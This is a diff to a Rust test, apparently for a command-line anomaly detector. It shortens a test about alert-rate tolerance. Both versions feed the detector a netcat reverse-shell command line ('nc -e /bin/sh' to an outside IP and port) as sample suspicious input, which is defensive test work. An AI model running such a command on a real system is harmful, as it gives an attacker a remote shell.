@@ -132,12 +132,7 @@ fn where_command_lines_stay_on_the_node_none_is_unusual() {
 fn a_tolerance_that_asks_for_more_than_can_be_told_raises_at_info() {
     let mut world = learned();
     world.policy.tolerance.alerts_per_thousand_weeks = 0;
-    // A rate is measured over a day at least, by what came up since.
-    for hour in 0..30 {
-        world.sees(&bash(), Attributes::default(), at(100 + hour * 3_600));
-    }
-    world.sees(&bash(), with(STRANGE), at(200_000));
-    world.sees(&bash(), with("nc -e /bin/sh 203.0.113.9 4242"), at(200_001));
+    world.sees(&bash(), with("nc -e /bin/sh 203.0.113.9 4242"), at(100));
     let held = entry(&world.baseline, &unusual("nc -e /bin/sh 203.0.113.9 4242"));
     assert!(held.strangeness.as_ref().is_some_and(|why| !why.scorable), "{held:?}");
 }
